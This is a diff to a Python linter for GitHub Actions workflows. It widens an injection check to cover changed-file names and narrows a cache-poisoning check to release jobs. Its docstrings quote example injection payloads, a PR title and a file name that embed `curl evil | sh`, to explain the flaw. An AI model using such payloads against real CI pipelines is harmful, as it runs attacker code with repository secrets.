@@ -37,16 +37,40 @@ def _sources(repo: Repo) -> Iterator[tuple[str, dict[str, Any]]]:
         yield name, {"jobs": {"action": mapping(action.get("runs"))}}
 
 
-def _scripts(data: dict[str, Any]) -> Iterator[str]:
-    """The shell of every ``run:`` and the JavaScript of every ``actions/github-script``."""
+_CHANGED_FILES = (
+    "tj-actions/changed-files@", "step-security/changed-files@", "dorny/paths-filter@",
+    "jitterbit/get-changed-files@", "Ana06/get-changed-files@",
+)  # fmt: skip
+"""Actions whose outputs list the files a push or pull request changed: names an outsider
+chooses (``$(curl evil | sh).yaml`` is a valid one)."""
+
+
+def _scripts(data: dict[str, Any]) -> Iterator[tuple[str, str]]:
+    """The shell of every ``run:`` and the JavaScript of every ``actions/github-script``,
+    each with the ids of its job's steps whose outputs are changed files' names."""
     for job in mapping(data.get("jobs")).values():
+        changed = "|".join(
+            re.escape(str(step["id"]))
+            for step in steps(job)
+            if "id" in step and str(step.get("uses", "")).startswith(_CHANGED_FILES)
+        )
         for step in steps(job):
             if isinstance(step.get("run"), str):
-                yield step["run"]
+                yield step["run"], changed
             if str(step.get("uses", "")).startswith("actions/github-script@"):
                 script = mapping(step.get("with")).get("script")
                 if isinstance(script, str):
-                    yield script
+                    yield script, changed
+
+
+def _untrusted(expression: str, changed: str) -> bool:
+    """Whether ``expression`` is input an outsider controls: a context of :data:`_UNTRUSTED`,
+    or a list of changed files (``steps.<changed>.outputs.*files``)."""
+    if _UNTRUSTED.search(expression):
+        return True
+    return bool(changed) and bool(
+        re.search(rf"\bsteps\.({changed})\.outputs\.[\w-]*files\b", expression)
+    )
 
 
 def _expressions(script: str) -> Iterator[str]:
@@ -64,7 +88,9 @@ def _expressions(script: str) -> Iterator[str]:
 class CI007(CI):
     """`${{ github.event.pull_request.title }}` (a branch name, a comment, a commit message)
     in a `run:` script is pasted into the shell before it runs: a pull request titled
-    ``"; curl evil | sh #`` runs its code with the workflow's token and secrets. Pass such
+    ``"; curl evil | sh #`` runs its code with the workflow's token and secrets. So do the
+    names of the files a pull request changes, as `tj-actions/changed-files` or
+    `dorny/paths-filter` list them in their outputs. Pass such
     values through `env:` and use `"$TITLE"`. Workflows, local composite actions and
     `actions/github-script` scripts are read.
     """
@@ -84,9 +110,9 @@ class CI007(CI):
         found = [
             (name, expression.strip())
             for name, data in _sources(repo)
-            for script in _scripts(data)
+            for script, changed in _scripts(data)
             for expression in _expressions(script)
-            if _UNTRUSTED.search(expression)
+            if _untrusted(expression, changed)
         ]
         if not found:
             return True
@@ -135,7 +161,9 @@ class CI009(CI):
     """A workflow that publishes (on `release`, on tags, or with a publishing action such as
     `pypa/gh-action-pypi-publish`) must not restore a cache: caches are shared with the
     pull-request workflows of the same repository, and one poisoned there ends up in the
-    released package (zizmor's cache-poisoning). `actions/cache`, `setup-python`/`setup-node`
+    released package (zizmor's cache-poisoning). Where a job publishes, that job and the
+    jobs it needs that upload an artifact (the build) are judged, not the test jobs beside
+    them. `actions/cache`, `setup-python`/`setup-node`
     with `cache:` and `setup-uv` unless `enable-cache: false` (its default, `auto`, caches on
     GitHub's runners) restore caches.
     """
@@ -185,13 +213,43 @@ def _publishing(step: dict[str, Any]) -> bool:
 
 
 def _caches(workflow: dict[str, Any]) -> list[str]:
-    """The actions of the steps that restore a cache."""
+    """The actions of the steps that restore a cache, in the jobs that make the release."""
+    jobs = {name: mapping(job) for name, job in mapping(workflow.get("jobs")).items()}
     return [
         str(step["uses"]).partition("@")[0]
-        for job in mapping(workflow.get("jobs")).values()
-        for step in steps(job)
+        for name in _release_jobs(jobs)
+        for step in steps(jobs[name])
         if _restores(step)
     ]
+
+
+def _release_jobs(jobs: dict[str, dict[str, Any]]) -> list[str]:
+    """The jobs whose output is released: those with a publishing step and the jobs they
+    need (directly or not) that upload an artifact (the build). A workflow with no
+    publishing step publishes by its trigger (``release``, tags): every job counts. A
+    test job beside the release (great_expectations' ci.yml runs its suite on tags too) is
+    not: what it caches never reaches the package."""
+    publishing = [n for n, job in jobs.items() if any(_publishing(s) for s in steps(job))]
+    if not publishing:
+        return list(jobs)
+    found, seen, todo = set(publishing), set(publishing), list(publishing)
+    while todo:  # each job once (a cycle of needs is an invalid workflow, not a hang)
+        needs = jobs.get(todo.pop(), {}).get("needs", [])
+        for need in map(str, [needs] if isinstance(needs, str) else _items(needs)):
+            if need in seen or need not in jobs:
+                continue
+            seen.add(need)
+            todo.append(need)
+            if any(str(s.get("uses", "")).startswith(_UPLOAD) for s in steps(jobs[need])):
+                found.add(need)
+    return [name for name in jobs if name in found]
+
+
+_UPLOAD = "actions/upload-artifact@"
+
+
+def _items(value: object) -> list[Any]:
+    return value if isinstance(value, list) else []
 
 
 def _restores(step: dict[str, Any]) -> bool:
